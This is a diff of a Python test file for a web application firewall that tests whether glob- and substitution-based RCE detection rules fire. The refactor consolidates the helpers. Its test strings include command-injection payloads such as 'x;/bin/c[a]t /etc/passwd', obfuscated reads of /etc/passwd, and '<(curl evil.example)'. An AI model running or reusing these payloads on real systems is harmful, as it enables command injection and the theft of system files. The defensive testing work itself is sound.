@@ -19,7 +19,7 @@ import uuid
 import pytest
 import requests
 
-from wafkit import WafEdge, random_tokens, waf_config
+from wafkit import WafEdge, random_tokens, rule_fired, waf_config
 
 CONF = waf_config()
 # Attacks go to an edge where only the rce rules run: another detector that
@@ -439,19 +439,14 @@ GLOB_SPLIT = ["see /a[b c]d", "x;/q[w|e]r", "'/s[l/c/a$1gv=c x-9n]k", "(/z[a<b]c
 GLOB_RUNS = ["cat /e[t]c/pa[s]swd", "x;/bin/c[a]t /etc/passwd", "a=/h[o]me/x"]
 
 
-def glob_hit(edge, value):
-    status, rid = send_note(edge, value)
-    return status == 403 and "rce-glob" in rce_rules(edge, rid)
-
-
 @pytest.mark.parametrize("value", GLOB_SPLIT)
 def test_a_bracket_split_by_the_shell_is_no_glob(rce_edge, value):
-    assert not glob_hit(rce_edge, value), value
+    assert not rule_fired(rce_edge, value, "rce-glob"), value
 
 
 @pytest.mark.parametrize("value", GLOB_RUNS)
 def test_a_bracket_within_a_word_is_a_glob(rce_edge, value):
-    assert glob_hit(rce_edge, value), value
+    assert rule_fired(rce_edge, value, "rce-glob"), value
 
 
 # What a substitution runs first is a program: a name no system has runs
@@ -465,14 +460,9 @@ SUBSTITUTION_PROGRAM = ["x$(uname -a)", "$(printf '\\151\\144')", "a$(mytool -x 
                         "$(busybox id)", "$(python3.11 -c 1)", "<(curl evil.example)"]
 
 
-def substitution_hit(edge, value):
-    status, rid = send_note(edge, value)
-    return status == 403 and "rce-substitution" in rce_rules(edge, rid)
-
-
 @pytest.mark.parametrize("value", SUBSTITUTION_NO_PROGRAM)
 def test_a_substitution_of_no_program_runs_nothing(rce_edge, value):
-    assert not substitution_hit(rce_edge, value), value
+    assert not rule_fired(rce_edge, value, "rce-substitution"), value
 
 
 @pytest.mark.parametrize("value", SUBSTITUTION_PROGRAM)
@@ -486,6 +476,6 @@ def test_random_tokens_hold_fewer_substitutions(rce_edge):
     # seeded tokens as above: 13 of these 120 held a substitution while
     # any name was taken for a program, 11 still do (most of them a
     # "$" or "`" inside "${...}", and "<('...")
-    hits = sum(substitution_hit(rce_edge, token)
+    hits = sum(rule_fired(rce_edge, token, "rce-substitution")
                for token in random_tokens(20261203, 120))
     assert hits <= 11, hits
